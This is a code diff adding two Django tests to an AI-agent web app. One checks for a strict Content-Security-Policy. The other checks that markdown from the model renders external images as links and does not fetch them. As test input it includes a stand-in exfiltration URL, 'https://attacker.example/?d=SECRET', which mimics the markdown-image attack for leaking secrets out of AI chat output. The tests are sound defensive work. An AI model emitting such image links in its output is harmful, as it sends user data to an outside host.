@@ -78,3 +78,22 @@ def test_a_user_without_a_team_cannot_create_a_session_and_gets_no_500(client, d
     client.login(username="loner", password=password)
     response = client.post(reverse("session-new"), {"mode": "general", "execution": "ask"})
     assert response.status_code in (400, 403, 422) and AgentSession.objects.count() == 0
+
+
+@pytest.mark.django_db
+def test_pages_carry_a_content_security_policy(client, alice, password):
+    client.login(username=alice.username, password=password)
+    policy = client.get(reverse("home"))["Content-Security-Policy"]
+    directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
+    assert directives["default-src"] == "'self'" and directives["script-src"] == "'self'"
+    assert directives["frame-ancestors"] == "'none'" and directives["img-src"] == "'self' data:"
+    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
+
+
+def test_model_markdown_links_external_images_instead_of_loading_them():
+    from agents.web.markdown import render_markdown
+
+    html = render_markdown("![x](https://attacker.example/?d=SECRET) ![chart](/media/images/s/1.png) ![y](//evil/x)")
+    assert "<img" in html and 'src="/media/images/s/1.png"' in html
+    assert html.count("<img") == 1  # the external ones are links, never fetched
+    assert '<a href="https://attacker.example/?d=SECRET"' in html and "external image, not loaded" in html
